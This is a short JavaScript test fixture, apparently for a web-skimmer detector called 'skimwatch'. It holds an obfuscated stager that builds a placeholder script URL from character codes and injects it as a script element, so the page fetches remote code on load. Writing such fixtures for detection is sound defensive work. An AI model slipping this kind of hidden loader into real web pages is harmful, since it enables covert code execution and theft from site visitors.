// Synthetic stager for skimwatch tests: the script URL is built from char
// codes and written into a script element's src attribute.
var e = document.createElement('script');
e.setAttribute('src', String.fromCharCode(47, 47, 115, 116, 97, 116, 115, 46, 101, 120, 97, 109, 112, 108, 101, 47, 97, 46, 106, 115));
document.body.appendChild(e);
